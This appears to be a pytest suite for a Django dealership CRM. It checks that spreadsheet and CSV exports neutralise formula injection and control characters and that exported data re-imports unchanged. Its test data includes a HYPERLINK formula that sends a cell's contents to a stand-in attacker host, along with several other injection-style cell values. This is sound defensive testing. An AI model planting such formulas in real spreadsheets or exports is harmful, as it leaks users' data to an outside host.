"""No workbook or CSV the product writes holds a live formula from user data, and no stored
text can break one; the import reads what an export wrote back unchanged."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from showroom.crm.tests.insight_data import lead
from showroom.customers.models import Customer
from showroom.exchange.tests.builders import run_command
from showroom.organization.choices import Role
from showroom.organization.models import Staff
from showroom.reports.tests import test_sales_reports as data
from showroom.traffic.models import WalkIn
from tests import factories as f

pytestmark = pytest.mark.django_db

october = data.october
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'


def contact_sheet(client, user):  # type: ignore[no-untyped-def]
    client.force_login(user)
    response = client.get(reverse("reports:contact_status_xlsx"), {"month": "2026-10"})
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))["意向客户接触状况表"]


def find(ws, value):  # type: ignore[no-untyped-def]
    return next(c for row in ws.iter_rows() for c in row if c.value == value)


def test_a_customer_named_like_a_formula_is_text_in_the_contact_sheet(client, consultant, october):
    Customer.objects.filter(name="新增1").update(name=HYPERLINK)
    cell = find(contact_sheet(client, consultant), HYPERLINK)
    assert cell.data_type == "s"
    assert cell.quotePrefix is True


def test_a_control_character_in_a_stored_name_does_not_break_the_contact_sheet(
    client, consultant, october
):
    Customer.objects.filter(name="新增1").update(name="控制\x01符")
    assert find(contact_sheet(client, consultant), "控制符").column == 3


def test_a_control_character_in_a_consultant_name_does_not_break_the_sheet_names(
    client, consultant, manager, october
):
    Staff.objects.filter(pk=consultant.pk).update(full_name="张\x01伟")
    client.force_login(manager)
    response = client.get(
        reverse("reports:contact_status_xlsx"), {"month": "2026-10", "consultant": "all"}
    )
    assert response.status_code == 200
    assert "张伟 C001" in load_workbook(io.BytesIO(response.content)).sheetnames


def test_a_lead_model_like_a_formula_is_text_in_the_channels_workbook(client, store, make_staff):
    lead(store, "10-15", "internet", model="=1+1")
    lead(store, "10-16", "internet", model="控制\x01车型")
    client.force_login(make_staff("mkt", Role.MARKETING, store=store))
    response = client.get(reverse("crm:channels_xlsx"), {"start": "2026-10", "end": "2026-10"})
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content))["媒体投放渠道分析"]
    cell = find(ws, "=1+1")
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert find(ws, "控制车型").data_type == "s"


@pytest.fixture
def hostile_walk_ins(store, consultant):  # type: ignore[no-untyped-def]
    for hour, name, notes in [
        (10, HYPERLINK, "@SUM(1)"),
        (11, "+86 王", "-2+3"),
        (12, "'引号", "=A1"),
    ]:
        f.WalkInFactory(
            store=store,
            date=dt.date(2026, 10, 1),
            arrived_at=dt.time(hour, 0),
            visit_type="first",
            name=name,
            phone=f"1380000000{hour - 9}",
            consultant=consultant,
            notes=notes,
        )


FIELDS = ("arrived_at", "name", "notes")


def walk_ins(code: str) -> list[tuple]:
    return list(WalkIn.objects.filter(store__code=code).order_by("arrived_at").values_list(*FIELDS))


def test_csv_export_marks_formulas_and_reads_back_unchanged(tmp_path, store, hostile_walk_ins):
    run = run_command("export", tmp_path / "csv", store="BJ01", month="2026-10")
    assert run.ok, run.err
    with (tmp_path / "csv" / "walk_ins.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [(r["name"], r["notes"]) for r in rows] == [
        ("'" + HYPERLINK, "'@SUM(1)"),
        ("'+86 王", "'-2+3"),
        ("''引号", "'=A1"),
    ]
    before = walk_ins("BJ01")
    WalkIn.objects.all().delete()
    first = run_command("import", tmp_path / "csv" / "walk_ins.csv", store="BJ01")
    second = run_command("import", tmp_path / "csv" / "walk_ins.csv", store="BJ01")
    assert first.ok, first.err
    assert second.out.splitlines()[0] == "来店客户登记表（BJ01）：新增 0 行，更新 0 行，未变 3 行"
    assert walk_ins("BJ01") == before


def test_workbook_export_keeps_formulas_text_and_reads_back_unchanged(
    tmp_path, store, hostile_walk_ins
):
    out = tmp_path / "bj01.xlsx"
    assert run_command("export", out, store="BJ01", month="2026-10").ok
    ws = load_workbook(out)["来店客户登记表"]
    assert {c.data_type for row in ws.iter_rows() for c in row if c.value is not None} <= {
        "s", "n", "d"
    }  # fmt: skip
    assert find(ws, HYPERLINK).quotePrefix is True
    moved = run_command("import", out, store="NEW1", create_store=True, create_staff=True)
    assert moved.ok, moved.err
    assert walk_ins("NEW1") == walk_ins("BJ01")


def test_a_stored_control_character_does_not_break_the_export(tmp_path, store, consultant):
    f.WalkInFactory(
        store=store, date=dt.date(2026, 10, 1), arrived_at=dt.time(10, 0), visit_type="first",
        name="控制\x01符", consultant=consultant,
    )  # fmt: skip
    out = tmp_path / "bj01.xlsx"
    run = run_command("export", out, store="BJ01", month="2026-10")
    assert run.ok, run.err
    assert find(load_workbook(out)["来店客户登记表"], "控制符").data_type == "s"
